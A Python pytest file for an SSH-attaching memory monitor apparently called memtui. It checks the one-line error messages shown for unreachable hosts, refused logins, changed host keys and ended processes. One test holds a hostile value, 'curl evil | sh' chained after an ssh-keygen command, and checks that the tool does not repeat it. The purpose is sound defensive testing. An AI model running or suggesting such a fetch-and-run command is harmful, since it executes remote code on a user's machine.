"""Hosts that cannot be reached, or that were named in a way that comes to nothing: one clear line for each."""

from __future__ import annotations

import pathlib
import socket
import subprocess
import sys

import pytest

from memtui.sources.ssh_address import parse_host
from memtui.sources.ssh_words import key_words, last_reason
from memtui.wire import paths
from tests.support import programs as started
from tests.support import sshd
from tests.support.supervised import Programs, wait_for_end

_TWO = "print('ready', flush=True)\nimport time, torch\nwhile True: torch.ones(3).sum(); time.sleep(0.05)"


def alias(servers: sshd.Servers, host: sshd.Host, name: str, known: str = "known") -> None:
    """Another name for a host, with its own file of known keys."""
    with open(servers.folder / "client", "a") as client:
        client.write(f"Host {name}\n  HostName 127.0.0.1\n  Port {host.port}\n  IdentityFile {servers.folder}/user\n")
        client.write(f"  IdentitiesOnly yes\n  IdentityAgent none\n  UserKnownHostsFile {servers.folder}/{known}\n")
        client.write("  StrictHostKeyChecking accept-new\n")


@pytest.mark.parametrize("words", ["ssh -F 'x", "ssh \\"])
def test_a_command_that_is_none(env: dict[str, str], words: str) -> None:
    seen = sshd.attach({**env, "MEMTUI_SSH": words}, "ssh://a/1", "ssh://b/2", "--headless")
    assert seen.returncode == 1
    assert seen.stderr.startswith("memtui: $MEMTUI_SSH is no command, no ")
    assert seen.stderr.count("\n") == 1


def test_lists_without_a_host(env: dict[str, str], tmp_path: pathlib.Path) -> None:
    seen = sshd.attach({**env, "SLURM_JOB_NODELIST": ",,,"}, "--slurm", "--headless")
    assert (seen.returncode, seen.stderr) == (2, "memtui: $SLURM_JOB_NODELIST=,,, names no host\n")
    (tmp_path / "hosts").write_text("# none\n")
    seen = sshd.attach(env, "--hosts", str(tmp_path / "hosts"), "--headless")
    assert (seen.returncode, seen.stderr) == (2, f"memtui: {tmp_path}/hosts names no host\n")


def test_every_host_that_cannot_be_reached_is_named(servers: sshd.Servers, env: dict[str, str]) -> None:
    servers.start("box")
    seen = sshd.attach(env, "ssh://one.invalid/1", "ssh://box/1", "ssh://two.invalid/4", "--headless")
    assert seen.returncode == 1
    first, second = seen.stderr.splitlines()
    assert first.startswith("memtui: one.invalid: ")
    assert second.startswith("memtui: two.invalid: ")


def test_a_login_that_is_refused_on_first_contact(servers: sshd.Servers, env: dict[str, str]) -> None:
    """What ssh warns of is not why."""
    command = servers.folder / "refuses"
    ready = '[ "$SSH_ORIGINAL_COMMAND" = "exit 7" ] && exit 7'
    command.write_text(f'#!/bin/sh\n{ready}\necho "No shell for you."\nexit 1\n')
    command.chmod(0o755)
    host = servers.start("closed", more=f"ForceCommand {command}")
    alias(servers, host, "fresh", known="other")
    seen = sshd.attach(env, "ssh://fresh/1", "--headless")
    assert (seen.returncode, seen.stderr) == (1, "memtui: fresh: No shell for you.\n")


def test_a_host_key_that_has_changed(servers: sshd.Servers, env: dict[str, str]) -> None:
    """It is told apart from one that was never seen, and what forgets the old one is said."""
    host = servers.start("box")
    alias(servers, host, "moved", known="other")
    key = (servers.folder / "user.pub").read_text().split()[:2]
    (servers.folder / "other").write_text(f"[127.0.0.1]:{host.port} {' '.join(key)}\n")
    seen = sshd.attach(env, "ssh://moved/1", "--headless")
    assert seen.returncode == 1
    (line,) = seen.stderr.splitlines()
    assert line.startswith("memtui: moved: Host key verification failed: the host's key is not the one that is known")
    assert "ssh-keygen -f" in line
    assert "127.0.0.1" in line


def test_words_of_ssh() -> None:
    warning = "Warning: Permanently added 'box' (ED25519) to the list of known hosts."
    assert last_reason([warning]) == ""
    assert last_reason(["Permission denied (publickey).", "** WARNING: connection is not using ...", warning]) == (
        "Permission denied (publickey)."
    )
    address = parse_host("me@box:2222")
    said = key_words([], address, ["ssh", "-F", "a b"], asked=False)
    assert "ssh -F 'a b' -p 2222 me@box shows it" in said
    assert key_words([], address, ["ssh"], asked=True) == ""
    changed = ["@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @"]
    assert "ssh-keygen -R '[box]:2222'" in key_words(changed, address, ["ssh"], asked=True)
    old, new = "ssh-keygen -f '/home/me/.ssh/known_hosts' -R '[box]:2222'", "ssh-keygen -f '/a b/c' -R 'box'"
    for forgets in (old.replace("'", '"'), new):
        assert f"right, {forgets} forgets" in key_words([*changed, forgets], address, ["ssh"], asked=True)
    hostile = "ssh-keygen -f '/a' -R 'box'; curl evil | sh"
    assert "evil" not in key_words([*changed, hostile], address, ["ssh"], asked=True)


def test_one_machine_by_two_names(servers: sshd.Servers, env: dict[str, str]) -> None:
    """The same process is shown once, and that is said."""
    started.require_torch()
    host = servers.start("box")
    alias(servers, host, "same")
    clean = {name: value for name, value in env.items() if name != "MEMTUI_SSH"}
    target = subprocess.Popen([sys.executable, "-c", _TWO], env=clean, stdout=subprocess.PIPE)
    try:
        assert target.stdout is not None
        target.stdout.readline()
        started.wait_for(lambda: "/libtorch" in pathlib.Path(f"/proc/{target.pid}/maps").read_text(), 60, "torch")
        words = (f"ssh://box/{target.pid}", f"ssh://same/{target.pid}")
        seen = sshd.attach(env, *words, "--headless", "--frames", "2")
    finally:
        target.kill()
        target.communicate()
    assert seen.returncode == 0, seen.stderr
    told = f"memtui: same is the same machine as box: process {target.pid} is shown once"
    assert told in seen.stderr.splitlines()
    assert "2 processes" not in seen.stdout
    assert "allocated" in seen.stdout


def test_a_program_of_memtui_run_that_has_ended(servers: sshd.Servers, env: dict[str, str]) -> None:
    """It is told from one that never was, with what shows its output."""
    servers.start("box", more=f"SetEnv MEMTUI_RUNTIME_DIR={env['MEMTUI_RUNTIME_DIR']}")
    programs = Programs()
    try:
        start = programs.python("print('done')")
        wait_for_end(start)
        seen = sshd.attach(env, f"ssh://box/{start.pid}", "--headless")
        assert seen.returncode == 1
        assert seen.stderr == (
            f"memtui: box: process {start.pid}, which memtui run has started, has ended; "
            f"ssh box memtui attach --pid {start.pid} shows its output and its status\n"
        )
    finally:
        programs.stop()


def test_the_socket_of_a_process_that_was_killed(servers: sshd.Servers, env: dict[str, str]) -> None:
    """It stays, and says nothing of the process, which is gone."""
    servers.start("box", more=f"SetEnv MEMTUI_RUNTIME_DIR={env['MEMTUI_RUNTIME_DIR']}")
    gone = subprocess.Popen(["true"])
    gone.wait()
    with socket.socket(socket.AF_UNIX) as stale:
        stale.bind(str(pathlib.Path(env["MEMTUI_RUNTIME_DIR"], paths.agent_socket_name(gone.pid))))
    seen = sshd.attach(env, f"ssh://box/{gone.pid}", "--headless")
    assert seen.returncode == 1
    assert seen.stderr.startswith(f"memtui: box: no such process: {gone.pid}; ")
